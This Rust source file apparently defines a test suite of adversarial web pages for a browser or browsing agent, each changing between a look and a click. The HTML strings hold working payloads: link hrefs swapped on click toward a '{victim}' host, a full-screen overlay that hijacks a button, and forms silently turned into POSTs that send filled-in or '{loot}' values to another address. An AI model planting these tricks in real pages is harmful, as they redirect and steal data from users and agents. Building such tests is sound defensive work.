//! The page is not what it was: between a look and a click it becomes another one.

use super::{Act, Attack, Kind, Proof, Reply};

fn page(name: &str, proof: Proof, body: &'static str) -> Attack {
    Attack::page(name, Kind::Change, proof, body)
}

const CLICK: &[Act] = &[Act::Wait(700), Act::Click("#go")];

pub(super) fn rows() -> Vec<Attack> {
    vec![
        page("link-that-turns", Proof::Tcp, "<!doctype html><a id=go href='/steel.html'>Go</a><script>go.onmousedown = () => go.href = 'http://{victim}/link-that-turns'; go.onclick = () => go.href = 'http://{victim}/link-that-turns'</script>").acts(CLICK),
        page("link-that-is-exchanged", Proof::Tcp, "<!doctype html><a id=go href='/steel.html'>Go</a><script>setTimeout(() => go.outerHTML = \"<a id=go href='http://{victim}/link-that-is-exchanged'>Go</a>\", 300)</script>").acts(CLICK),
        page("button-that-turns", Proof::Taken, "<!doctype html><button id=go>Read more</button><form method=post action='{here}/' id=f><input name=a value='{loot}'></form><script>setTimeout(() => { go.setAttribute('form', 'f') }, 300)</script>").acts(CLICK),
        page("button-that-is-covered", Proof::Tcp, "<!doctype html><button id=go>Go</button><script>setTimeout(() => { const over = document.createElement('a'); over.href = 'http://{victim}/button-that-is-covered'; over.style = 'position: fixed; inset: 0'; document.body.append(over); go.onclick = () => over.click() }, 300)</script>").acts(CLICK),
        page("button-that-goes", Proof::Shows, "<!doctype html><button id=go>Go</button><script>setTimeout(() => go.remove(), 300)</script>").acts(CLICK),
        page("page-that-goes", Proof::Shows, "<!doctype html><button id=go>Go</button><script>setTimeout(() => location = '/steel.html', 300)</script>").acts(CLICK),
        page("page-that-is-written-anew", Proof::Tcp, "<!doctype html><button id=go>Go</button><script>setTimeout(() => { document.open(); document.write(\"<button id=go onclick=\\\"location='http://{victim}/page-that-is-written-anew'\\\">Go</button>\"); document.close() }, 300)</script>").acts(CLICK),
        page("form-that-turns", Proof::Taken, "<!doctype html><form id=f action='/list'><input name=q><button id=go>Search</button></form><script>f.onsubmit = () => { f.method = 'post'; f.action = '{here}/' }</script>").acts(&[Act::Fill("input", "loot-7f3a91"), Act::Click("#go")]),
        page("moves-under-the-pointer", Proof::Shows, "<!doctype html><button id=go style='position: absolute'>Go</button><script>setInterval(() => go.style.left = Math.random() * 900 + 'px', 5)</script>").acts(CLICK),
        page("another-each-time", Proof::Shows, "<!doctype html><p id=p></p><script>setInterval(() => p.textContent = Math.random(), 1)</script>").acts(&[Act::Wait(100)]),
        Attack::new("another-for-robots", Kind::Change, Proof::Shows).file("", Reply::Made(|before| {
            crate::site::Answer::html(format!("<!doctype html><title>Visit {before}</title><p id=count>{before}</p>")).with("cache-control", "no-store")
        })),
    ]
}
